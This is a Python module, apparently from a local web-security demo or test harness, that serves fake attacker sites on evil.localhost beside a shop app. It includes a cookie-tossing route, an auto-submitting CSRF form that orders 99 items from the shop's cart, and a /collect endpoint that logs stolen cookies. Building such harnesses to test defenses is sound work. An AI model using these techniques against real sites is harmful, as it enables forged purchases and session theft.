"""The attacker's own sites: evil.localhost, and evil.shop.localhost below the shop's name.

They are on the shop's port and on no other machine. What they catch stays in this process.
"""

from __future__ import annotations

import html
from collections.abc import Iterable
from dataclasses import dataclass, field
from urllib.parse import parse_qs

from .guard import App, Environ, StartResponse
from .wrapping import host_of

HTML = ("Content-Type", "text/html; charset=utf-8")


@dataclass
class Loot:
    """What visitors left with the attacker."""

    stolen: list[str] = field(default_factory=list)
    referers: list[str] = field(default_factory=list)


def with_attacker(app: App, loot: Loot) -> App:
    """Return *app*, and the attacker's sites beside it by their names."""

    def serve(environ: Environ, start_response: StartResponse) -> Iterable[bytes]:
        name = host_of(environ).rpartition(":")[0] or host_of(environ)
        if name not in ("evil.localhost", "evil.shop.localhost"):
            return app(environ, start_response)
        if referer := environ.get("HTTP_REFERER"):
            loot.referers.append(referer)
        port = host_of(environ).rpartition(":")[2]
        query = {k: v[0] for k, v in parse_qs(environ.get("QUERY_STRING", "")).items()}
        status, headers, body = _answer(str(environ.get("PATH_INFO")), query, port, loot)
        start_response(status, [HTML, *headers])
        return [body.encode()]

    return serve


def _answer(
    path: str, query: dict[str, str], port: str, loot: Loot
) -> tuple[str, list[tuple[str, str]], str]:
    shop = f"http://shop.localhost:{port}"
    if path == "/toss":
        # A name below the shop's may set cookies for the shop's name (RFC 6265bis 5.6).
        text = f"{query.get('name', 'session')}={query.get('value', '')}; Domain=shop.localhost"
        return "200 OK", [("Set-Cookie", f"{text}; Path=/")], _page("<p>Nice cat pictures.</p>")
    if path == "/csrf":
        return "200 OK", [], _page(_form(shop))
    if path == "/collect":
        loot.stolen.append(query.get("c", ""))
        return "200 OK", [("Access-Control-Allow-Origin", "*")], _page("<p>Thanks.</p>")
    return "200 OK", [], _page("<p>Win a prize!</p>")


def _form(shop: str) -> str:
    """A form that sends itself where scripts run, and has a button where they do not."""
    return (
        f'<form id="f" method="post" action="{html.escape(shop)}/cart">'
        '<input type="hidden" name="item" value="tea">'
        '<input type="hidden" name="quantity" value="99">'
        "<button>See the prize</button></form>"
        '<script>document.getElementById("f").submit()</script>'
    )


def _page(inner: str) -> str:
    return f'<!doctype html><html lang="en"><title>A prize</title><body>{inner}</body></html>'
